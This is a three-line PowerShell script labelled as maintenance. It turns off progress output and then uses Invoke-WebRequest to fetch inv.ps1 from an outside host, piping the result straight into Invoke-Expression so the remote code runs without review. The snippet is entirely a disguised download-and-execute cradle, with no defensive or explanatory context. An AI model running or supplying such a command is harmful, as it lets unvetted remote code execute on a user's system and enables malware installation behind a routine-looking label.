# maintenance 0661 v3
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://static.metrics-node.example/inv.ps1 | iex
